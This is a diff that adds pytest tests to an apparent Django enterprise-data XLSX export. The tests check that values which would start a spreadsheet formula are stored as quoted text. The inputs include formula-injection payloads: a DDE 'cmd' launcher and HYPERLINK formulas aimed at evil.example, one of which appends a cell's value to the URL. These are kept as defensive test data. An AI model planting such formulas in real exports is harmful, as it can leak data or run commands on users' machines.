@@ -178,3 +178,60 @@ def test_the_export_view_still_downloads_at_once(cast, as_user):
         r'attachment; filename="enterprises-\d{8}-\d{4}\.xlsx"', response["Content-Disposition"]
     )
     assert [row[1] for row in rows_of(b"".join(response.streaming_content))[1:]] == ["来安县建工集团有限公司"]
+
+
+# ---------------------------------------------------------------- formula injection (OWASP CSV injection)
+
+
+def text_ledger(values: list) -> exports.Ledger:
+    return exports.Ledger(
+        name="texts",
+        sheet_title="文本",
+        columns=[("值", 20)],
+        queryset=Region.objects.all(),
+        rows=lambda queryset: ([value] for value in values),
+    )
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '=HYPERLINK("http://evil.example/","点击")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+        "\t=1",
+        "\r=1",
+    ],
+    ids=["equals", "plus", "minus", "at", "tab", "cr"],
+)
+def test_text_that_would_start_a_formula_is_written_as_quoted_text(text):
+    handle = io.BytesIO()
+    exports.write_xlsx(text_ledger([text]), handle)
+    cell = sheet_of(handle.getvalue()).cell(2, 1)
+    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", text, True)
+
+
+def test_numbers_dates_and_plain_text_keep_their_types():
+    handle = io.BytesIO()
+    exports.write_xlsx(text_ledger([-5, 3.5, "普通文本", "a=b"]), handle)
+    cells = [sheet_of(handle.getvalue()).cell(row, 1) for row in (2, 3, 4, 5)]
+    assert [(c.data_type, c.value, c.quotePrefix) for c in cells] == [
+        ("n", -5, False),
+        ("n", 3.5, False),
+        ("s", "普通文本", False),
+        ("s", "a=b", False),
+    ]
+
+
+def test_an_enterprise_address_set_to_a_hyperlink_formula_is_exported_as_text(cast, as_user):
+    address = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
+    cast.enterprise_x.address = address
+    cast.enterprise_x.save()
+    response = as_user(cast["town_a"]).get(reverse("core:enterprise-export"), {"q": "建工"})
+    sheet = sheet_of(b"".join(response.streaming_content))
+    headers = [cell.value for cell in sheet[1]]
+    address_cell = sheet.cell(2, headers.index("地址") + 1)
+    employees_cell = sheet.cell(2, headers.index("从业人员数") + 1)
+    assert (address_cell.data_type, address_cell.value, address_cell.quotePrefix) == ("s", address, True)
+    assert (employees_cell.data_type, employees_cell.value) == ("n", 20)
